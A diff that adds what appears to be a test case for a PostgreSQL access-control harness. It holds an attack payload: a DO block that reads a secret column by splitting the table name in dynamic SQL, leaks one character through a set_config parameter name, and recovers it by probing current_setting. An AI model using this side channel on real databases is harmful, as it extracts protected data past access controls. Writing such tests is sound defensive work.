@@ -1,0 +1,10 @@
+-- Makes up a parameter by a letter in a block that is refused, and asks for it by current_setting.
+-- wants: read
+-- shows: letter-116
+-- attack:
+DO $$ DECLARE value text; BEGIN
+  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
+  PERFORM set_config('x.y1_' || ascii(value), '', true);
+END $$;
+-- repeat: 112..118
+SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
